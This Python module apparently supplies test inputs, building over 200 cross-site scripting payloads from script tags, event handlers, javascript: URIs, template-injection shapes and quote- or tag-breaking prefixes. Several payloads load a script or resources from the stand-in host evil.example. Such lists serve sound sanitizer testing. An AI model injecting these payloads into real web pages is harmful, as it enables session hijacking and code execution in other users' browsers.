"""Texts that try to become code when a page shows them."""

_CODE = "alert(document.domain)"
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{}\"><text x=1 y=9>x</text></a></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<form action=javascript:{}><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example/)}}</style>",
    "<template><script>{}</script></template>",
    "<!--<img src=--><img src=x onerror={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
)  # fmt: skip
_BREAKOUTS = (
    "", '"', "'", '">', "'>", '"/>', "</title>", "</td></tr></table>", "</svg>", "</textarea>",
    "-->", "]]>", "&quot;>", "\\", "x ", "\u202e", "\x00", "`",
)  # fmt: skip
_HANDLERS = tuple(
    f"{quote} {event}={_CODE} x={quote}"
    for quote in ('"', "'", "`", " ")
    for event in ("onmouseover", "onfocus", "onpointerenter", "style=color:red onclick")
)

TEXTS = (
    *(shape.format(_CODE) for shape in _SHAPES),
    *(
        breakout + shape.format(_CODE)
        for breakout in _BREAKOUTS[1:]
        for shape in _SHAPES[: len(_SHAPES) // 2 : 2] + _SHAPES[-5:]
    ),
    *_HANDLERS,
)
"""More than 200, each other than the rest."""
